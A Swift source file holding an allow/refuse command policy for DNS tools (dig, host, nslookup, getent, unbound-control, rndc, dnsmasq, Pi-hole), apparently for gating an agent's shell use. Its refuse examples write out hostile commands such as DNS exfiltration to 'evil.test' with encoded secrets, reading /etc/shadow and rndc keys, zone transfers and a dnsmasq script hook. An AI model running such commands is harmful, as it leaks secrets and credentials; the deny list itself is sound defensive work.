// SPDX-License-Identifier: Apache-2.0

extension ShippedTables {
    /// Names: dig(1), host(1), nslookup(1), getent(1), and the servers unbound, BIND, dnsmasq and Pi-hole.
    static let names = """
        # dig: -f, -k and -y read files and keys; +cookie, +ednsopt, +subnet and +domain would carry data out.
        program dig : words

        dig ...
          +short +noshort, +all +noall, +answer +noanswer, +comments +nocomments, +stats +nostats, +question +noquestion
          +authority +noauthority, +additional +noadditional, +cmd +nocmd, +ttlid +nottlid, +identify, +qr, +yaml
          +multiline +multi +nomultiline, +trace +notrace, +nssearch, +dnssec +nodnssec, +do, +nsid, +cd +cdflag
          +ad +adflag, +tcp +notcp +vc, +recurse +norecurse +rec +norec, +search +nosearch, +edns[={0|1}] +noedns
          +ignore, +nocookie
          +time[=COUNT] +timeout[=COUNT], +tries[=FEW], +retry[={0|1|2|3|4|5}], +bufsize[=PACKETSIZE], -4, -6, -r
          -t RECORDTYPE, -q DNSNAME, -p PORT

        dig [@SERVER] DNSNAME [RECORDTYPE] [@SERVER] : observe
          allow dig example.org
          allow dig @192.168.0.11 example.org +short
          allow dig @127.0.0.1 -p 5335 example.org
          allow dig +time=2 +tries=1 example.org mx
          allow dig +noall +answer example.org AAAA @1.1.1.1
          refuse dig @203.0.113.9 example.org
          refuse dig c2VjcmV0.evil.test
          refuse dig -f /etc/shadow
          refuse dig example.org AXFR
          refuse dig +ednsopt=65001:736563726574 example.org

        dig [@SERVER] RECORDTYPE DNSNAME [@SERVER] | dig [@SERVER] [RECORDTYPE] . [RECORDTYPE] [@SERVER] : observe
          allow dig +short NS .
          allow dig MX example.org
          refuse dig -k /etc/bind/rndc.key example.org

        dig [@SERVER] : observe
          -x HOST
          with -x | -q
          allow dig -x 192.168.0.10 +short
          refuse dig -x 203.0.113.9
          refuse dig @192.168.0.11

        program drill

        drill [@SERVER] DNSNAME [RECORDTYPE] [@SERVER] : observe
          -D, -T, -x, -Q, -4, -6, -t
          allow drill @192.168.0.11 example.org
          refuse drill -f /etc/shadow
          refuse drill -w /etc/x example.org

        # host: -l asks for a whole zone.
        program host

        host DNSNAME [HOST] : observe
          -t RECORDTYPE, -a, -v, -d, -4, -6, -C, -T, -r, -s, -W COUNT, -R FEW
          allow host example.org
          allow host -t MX -W 2 example.org 192.168.0.11
          refuse host -l example.org
          refuse host -T x 203.0.113.9
          refuse host secret.evil.test

        program nslookup : words

        nslookup DNSNAME [HOST] : observe
          -type[=RECORDTYPE] -query[=RECORDTYPE] -q[=RECORDTYPE], -timeout[=COUNT], -debug, -retry[=FEW]
          allow nslookup example.org 192.168.0.11
          allow nslookup -type=MX example.org
          refuse nslookup example.org 203.0.113.9
          refuse nslookup

        # getent: no shadow, no gshadow.
        program getent

        getent (hosts|ahosts|ahostsv4|ahostsv6) DNSNAME... : observe
          allow getent hosts example.org
          refuse getent hosts secret.evil.test

        getent hosts | getent (passwd|group|services|protocols|networks|rpc) [NAME...] : observe
          allow getent passwd backup
          allow getent services ssh
          refuse getent shadow
          refuse getent -s /tmp/x passwd

        program unbound-control

        # 'stats' sets the counters to zero; another server (-s) and file (-c) are left out.
        unbound-control (status|stats_noreset|list_forwards|list_stubs|list_local_zones|list_local_data) : observe
          allow unbound-control stats_noreset
          refuse unbound-control -s 203.0.113.9 status
          refuse unbound-control stop

        unbound-control (list_insecure|list_auth_zones|dump_requestlist) | unbound-control lookup CACHEDNAME : observe
          allow unbound-control lookup example.org
          refuse unbound-control get_option control-key-file

        # What is in a cache is asked again.
        unbound-control (flush|flush_zone) CACHEDNAME : bounded, undo no, does flush
          allow unbound-control flush example.org
          allow unbound-control flush_zone example.org
          refuse unbound-control flush
          refuse unbound-control forward_add . 203.0.113.9
          refuse unbound-control local_data example.org A 203.0.113.9

        # Of the name servers it knows, only those that did not answer are of interest.
        unbound-control flush_infra (all|IPADDRESS) : bounded, undo no, does flush
          allow unbound-control flush_infra all
          refuse unbound-control set_option verbosity: 5

        unbound-control flush_type CACHEDNAME RECORDTYPE : bounded, undo no, does flush
          allow unbound-control flush_type example.org AAAA
          refuse unbound-control local_zone_remove example.org

        unbound-control (flush_bogus|flush_negative|flush_requestlist) : bounded, undo no, does flush
          allow unbound-control flush_negative
          refuse unbound-control load_cache

        unbound-control (reload|reload_keep_cache) : bounded, undo no, does reload
          allow unbound-control reload
          refuse unbound-control start

        program unbound-checkconf named-checkconf

        unbound-checkconf : observe
          allow unbound-checkconf
          allow named-checkconf
          refuse named-checkconf -p

        program rndc

        rndc status | rndc zonestatus CACHEDNAME : observe
          allow rndc status
          refuse rndc -s 203.0.113.9 status
          refuse rndc stop

        rndc flush | rndc (flushname|flushtree) CACHEDNAME : bounded, undo no, does flush
          allow rndc flushname example.org
          refuse rndc delzone example.org

        rndc reload [CACHEDNAME] | rndc reconfig | rndc (refresh|retransfer) CACHEDNAME : bounded, undo no, does reload
          allow rndc reload
          refuse rndc halt
          refuse rndc addzone evil.test

        program dnsmasq

        dnsmasq : observe
          --test, -v --version
          with --test | -v
          allow dnsmasq --test
          refuse dnsmasq --dhcp-script=id
          refuse dnsmasq --test -C /tmp/x

        program pihole : words

        # 'disable' lets everything through, 'tail' never ends, 'updatePihole' changes the program.
        pihole status | pihole version | pihole query CACHEDNAME : observe
          allow pihole status
          allow pihole query example.org
          refuse pihole disable
          refuse pihole disable 300

        pihole : observe
          -v --version
          with -v
          allow pihole -v
          refuse pihole -t
          refuse pihole -up

        pihole (reloaddns|reloadlists) : bounded, undo no, does reload
          allow pihole reloaddns
          refuse pihole reloaddns x

        pihole restartdns [(reload|reload-lists)] : bounded, undo no, does restart
          allow pihole restartdns
          refuse pihole restartdns --now

        pihole enable : bounded, undo yes, does enable
          allow pihole enable
          refuse pihole enable x

        # Fetches all lists anew.
        pihole ("updateGravity"|updategravity) | pihole ((-g)) : disruptive, undo no, does reload
          allow pihole updateGravity
          allow pihole -g
          refuse pihole uninstall
        """
}
